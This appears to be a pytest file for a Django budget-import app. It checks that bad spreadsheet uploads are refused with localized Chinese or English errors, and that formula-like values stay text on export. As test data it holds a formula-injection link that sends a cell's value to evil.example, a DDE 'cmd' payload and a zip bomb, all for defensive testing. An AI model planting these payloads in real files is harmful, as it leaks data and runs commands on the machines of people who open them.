"""Bad files as the person who offers them meets them: an answer in their language, the place, and nothing written."""

from __future__ import annotations

import io
import itertools
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from foundation.jobs import run_until_idle
from foundation.models import AuditEvent
from monitoring.models import MonitoringTable
from organisation.models import BudgetUnit
from projects.models import BudgetProject, FundingLine, ImportBatch, Indicator, Payment
from tests import factories
from tests.conftest import sign_in
from tests.projects.workbooks import ROWS, payments, workbook

pytestmark = pytest.mark.django_db
LANGUAGES = ["zh-hans", "en"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True)
class Case:
    """A bad file, the cell its fault names ("" for the whole file) and words of the answer in both languages."""

    file: Callable[[], Any]
    where: str
    chinese: str
    english: str


def edited(act: Callable[[Any], None]) -> Callable[[], io.BytesIO]:
    """The good workbook, changed in Excel."""

    def file() -> io.BytesIO:
        book = openpyxl.load_workbook(workbook())
        act(book)
        saved = io.BytesIO()
        book.save(saved)
        return _named(saved.getvalue(), "city.xlsx")

    return file


def rows(key: str, **changed: Any) -> Callable[[], io.BytesIO]:
    """The good workbook with other values in the first row of a sheet."""
    return lambda: workbook(**{key: [{**ROWS[key][0], **changed}, *ROWS[key][1:]]})


def twice(key: str) -> Callable[[], io.BytesIO]:
    return lambda: workbook(**{key: [*ROWS[key], *ROWS[key]]})


def paid(amount: str, *, year: int = 2022) -> Callable[[], io.BytesIO]:
    """A file with one payment, in March of a year."""
    return lambda: _named(
        payments(amount).getvalue().replace(b"2022-03", f"{year}-03".encode()), "payments.csv"
    )


def packed(*, name: str, content: bytes) -> Callable[[], io.BytesIO]:
    """The good workbook with one more part in its archive."""

    def file() -> io.BytesIO:
        whole = io.BytesIO(workbook().getvalue())
        with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        return _named(whole.getvalue(), "city.xlsx")

    return file


def _named(content: bytes, name: str) -> io.BytesIO:
    file = io.BytesIO(content)
    file.name = name
    return file


def _wrong_heading(book: Any) -> None:
    book["资金来源"]["C1"] = "钱"


def _merged(book: Any) -> None:
    sheet = book["资金来源"]
    sheet.append([None, "上级转移支付", 5])
    sheet.merge_cells("A2:A3")


def _code_as_number(book: Any) -> None:
    """What a spreadsheet keeps of twenty-one digits."""
    book["资金来源"]["A2"] = 3.70782220000000e20


CASES = {
    "not a workbook": Case(
        lambda: _named("项目编码,项目名称\n".encode(), "city.xlsx"), "", "不是 .xlsx 工作簿", "not an .xlsx workbook"
    ),
    "an old workbook": Case(
        lambda: _named(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "city.xlsx"), "", ".xls", "old .xls"
    ),
    "cut off": Case(lambda: _named(workbook().getvalue()[:4000], "city.xlsx"), "", "损坏", "damaged"),
    "macros": Case(packed(name="xl/vbaProject.bin", content=b"x"), "", "宏", "macros"),
    "a zip bomb": Case(
        packed(name="xl/media/1.bin", content=b"\0" * 110_000_000), "", "解压", "unpacks to far more"
    ),
    "a wrong heading": Case(edited(_wrong_heading), "资金来源!1", "年初预算数（元）", "is missing"),
    "merged cells": Case(edited(_merged), "资金来源!A3", "取消合并", "Split them"),
    "text in a number": Case(rows("funding", initial="一百万左右"), "资金来源!C2", "数字", "number"),
    "a code that became a number": Case(
        edited(_code_as_number), "资金来源!A2", "设为文本", "Format the column as text"
    ),
    "a code that stands twice": Case(twice("projects"), "预算项目!A3", "首次出现在第2行", "first in row 2"),
    "an unknown unit": Case(rows("projects", unit_code="219999"), "预算项目!D2", "219999", "219999"),
    "a target of ten to the twelfth": Case(
        rows("indicators", target_low=10**12), "绩效指标!G2", "过大", "too large"
    ),
    "money beyond what is kept": Case(rows("funding", initial=10**14), "资金来源!C2", "过大", "too large"),
    "negative money": Case(
        rows("funding", initial=Decimal("-5")), "资金来源!C2", "不能为负", "cannot be negative"
    ),
    "a year that cannot be": Case(rows("projects", year=2202), "预算项目!B2", "2202", "2202"),
    "a date before the century": Case(
        rows("projects", starts_on="1022-01-01"), "预算项目!H2", "1022", "cannot be right"
    ),
    "a negative payment": Case(
        paid("-5"), "支付记录!F2", "金额为负即为退款", "negative amount is a refund"
    ),
    "a payment of another year": Case(
        paid("5", year=2012), "支付记录!B2", "没有2012年度", "no project of 2012"
    ),
}  # fmt: skip


def offered(client: Any, person: Any, language: str, file: Any) -> Any:
    """The page after the check of a file that the person offered."""
    person.language = language
    person.save(update_fields=["language"])
    with translation.override(language):
        sign_in(client, person)
        client.cookies["django_language"] = language
        answer = client.post(reverse("import_list"), {"file": file})
        if answer.status_code != 302:
            return answer
        run_until_idle()
        return client.get(answer["Location"])


def kept() -> list[int]:
    """How many rows there are of everything that an import writes."""
    models = (BudgetUnit, BudgetProject, FundingLine, Indicator, Payment, AuditEvent)
    return [model.objects.count() for model in models]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", CASES)
def test_a_bad_file_is_answered_with_its_place_in_the_language_of_the_person(client, city, name, language):
    case, before = CASES[name], kept()
    page = offered(client, city.performance, language, case.file())
    assert page.status_code == 200
    batch = ImportBatch.objects.get()
    assert batch.state == "refused"
    (fault, *_others) = [fault for fault in batch.faults if fault["where"].startswith(case.where)]
    words = case.chinese if language == "zh-hans" else case.english
    assert words in fault["message"]
    text = page.content.decode()
    assert words in text
    assert f'<html lang="{language}' in text.replace("zh-Hans", "zh-hans")
    assert not page.context["may_apply"]
    assert kept() == before


@pytest.mark.parametrize(
    ("language", "words"), [("zh-hans", "不接受带宏"), ("en", "Macros and older formats")]
)
@pytest.mark.parametrize("name", ["city.xlsm", "city.xls", "city.zip"])
def test_the_name_of_a_macro_file_is_enough_to_refuse_it(client, city, name, language, words):
    page = offered(client, city.performance, language, _named(workbook().getvalue(), name))
    assert page.status_code == 422
    assert words in page.content.decode()
    assert not ImportBatch.objects.exists()


class LargeUpload(io.RawIOBase):
    """The body of a form with one large file: made while it is read, so that it never lies in memory as a whole."""

    BOUNDARY = "of-a-browser"

    def __init__(self, megabytes: int) -> None:
        self.head = (
            f"--{self.BOUNDARY}\r\n"
            'Content-Disposition: form-data; name="file"; filename="city.xlsx"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        self.tail = f"\r\n--{self.BOUNDARY}--\r\n".encode()
        self.parts = itertools.chain(
            [self.head], itertools.repeat(b"\1" * 1024, megabytes * 1024), [self.tail]
        )
        self.size = len(self.head) + megabytes * 1024 * 1024 + len(self.tail)
        self.rest = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        self.rest = self.rest or next(self.parts, b"")
        piece, self.rest = self.rest[: len(buffer)], self.rest[len(buffer) :]
        buffer[: len(piece)] = piece
        return len(piece)


@pytest.mark.parametrize(("language", "words"), [("zh-hans", "文件超过10 MB"), ("en", "larger than 10 MB")])
def test_fifty_megabytes_are_refused_without_being_held_in_memory(client, city, language, words):
    body = LargeUpload(50)
    sign_in(client, city.performance)
    client.cookies["django_language"] = language
    client.get(reverse("import_list"))  # what every page needs is loaded
    tracemalloc.start()
    answer = client.generic(
        "POST",
        reverse("import_list"),
        CONTENT_TYPE=f"multipart/form-data; boundary={LargeUpload.BOUNDARY}",
        CONTENT_LENGTH=str(body.size),
        **{"wsgi.input": io.BufferedReader(body)},
    )
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert answer.status_code == 422
    assert words in answer.content.decode()
    assert most < 10 * 1024 * 1024
    assert not ImportBatch.objects.exists()


def test_what_looks_like_a_formula_is_kept_as_text_and_leaves_as_text(client, city):
    name = FORMULA[:100]
    indicator = {**ROWS["indicators"][0], "name": "+1+cmd|' /C calc'!A0", "weight": Decimal(90)}
    projects = [{**ROWS["projects"][0], "name": name, "objective": "@SUM(1+1)*cmd"}]
    page = offered(client, city.performance, "en", workbook(projects=projects, indicators=[indicator]))
    assert page.context["may_apply"], page.context["places"]
    client.post(reverse("import_apply", args=[ImportBatch.objects.get().public_id]))
    run_until_idle()
    factories.make_cycle(city.division)
    table = MonitoringTable.objects.get(project__name=name)
    answer = client.get(reverse("table_form_xlsx", args=[table.public_id]))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(answer)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    told = {str(cell.value) for cell in cells if cell.data_type != "f"}
    assert {name, "+1+cmd|' /C calc'!A0"} <= told
    assert not [
        cell.value for cell in cells if cell.data_type == "f" and not cell.value.startswith(("=SUM(", "=IF("))
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_list_of_faults_cannot_carry_a_formula_out(client, city, language):
    funding = [{**ROWS["funding"][0], "source": FORMULA[:40]}]
    page = offered(client, city.performance, language, workbook(funding=funding))
    assert FORMULA not in page.content.decode()
    answer = client.get(reverse("import_faults", args=[ImportBatch.objects.get().public_id]))
    lines = answer.content.decode("utf-8-sig").splitlines()
    assert len(lines) > 1
    assert not [cell for line in lines for cell in line.split(",") if cell.startswith(("=", "+", "-", "@"))]
